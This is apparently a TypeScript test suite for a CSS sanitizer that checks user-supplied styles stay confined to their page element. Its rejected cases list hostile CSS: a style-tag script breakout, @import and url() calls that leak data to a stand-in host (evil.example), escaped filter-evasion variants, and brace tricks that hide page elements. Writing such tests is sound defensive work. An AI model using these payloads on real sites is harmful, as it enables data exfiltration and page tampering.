import fc from 'fast-check';
import { isPageCss } from './page-css';

describe('The styles of a page', () => {
  it.each([
    '',
    'h1 { color: red } .card:hover { padding: 4px }',
    '@media (min-width: 800px) { p > strong { color: #123 } }',
    '/* } */ p::before { content: "}{ @import"; }',
    'section { background: url("/api/media/library/1/800.webp") } svg { fill: url(#shade) }',
    'p { --gap: calc(1px + 2px) } ul li + li { margin: 0 }',
  ])('are let through where they stay on it: %s', (css) => expect(isPageCss(css)).toBe(true));

  it.each([
    '</style><script>alert(1)</script>',
    '} header { display: none } p {',
    'p { color: red',
    '@import "https://evil.example/x.css";',
    '@IMPORT url(/x.css);',
    '@font-face { font-family: x; src: url(/x.woff2) }',
    '@charset "utf-8";',
    '@keyframes x { to { opacity: 0 } }',
    'p { background: url(https://evil.example/?leak) }',
    'p { background: URL( "//evil.example" ) }',
    "p { background: url('https:evil.example') }",
    'input[value^=a] { background: image-set("https://evil.example/a" 1x) }',
    'p { background: src("https://evil.example") }',
    String.raw`p { background: \75rl(https://evil.example) }`,
    String.raw`@\69mport "https://evil.example";`,
    'body:has(&) { display: none }',
    '~ footer { display: none }',
    'p {} + header { display: none }',
    'p { background: url(/a"b) }',
    'p { content: "open',
    'p { color: red } /* open',
    'p { width: expression(alert(1)) }',
    'p { -moz-binding: url(/x) }',
    '/*/ } header { display: none } /*/ p {',
    'p{a:-url(/*)}q{r{*/)}}header,.consent{display:none}',
    'p{.y{color:"\f}}}header{display:none}q{r{content:"}}',
    'p{.y{color:"\r}}}header{display:none}q{r{content:"}}',
    'p { background: url("/\t/evil.example/x") }',
    'p { background: url(/{) }',
  ])('are refused where they reach out of it: %s', (css) => expect(isPageCss(css)).toBe(false));

  it('never close the element of the page, whatever is written', () => {
    const pieces = fc.constantFrom(
      '{',
      '}',
      '"',
      "'",
      '/*',
      '*/',
      'url(',
      '-url(',
      '\f',
      '\r',
      ')',
      'p',
      '@media x',
      ';',
      '\n',
      '/',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), (written) => {
        const css = written.join('');
        if (!isPageCss(css)) return;
        // Without comments and texts, as another reader would take them out.
        const bare = css.replace(/\/\*[^]*?\*\/|"[^"\n\r\f]*"|'[^'\n\r\f]*'/g, '');
        let depth = 0;
        for (const sign of bare) {
          depth += sign === '{' ? 1 : sign === '}' ? -1 : 0;
          expect(depth).toBeGreaterThanOrEqual(0);
        }
        expect(depth).toBe(0);
      }),
    );
  });
});
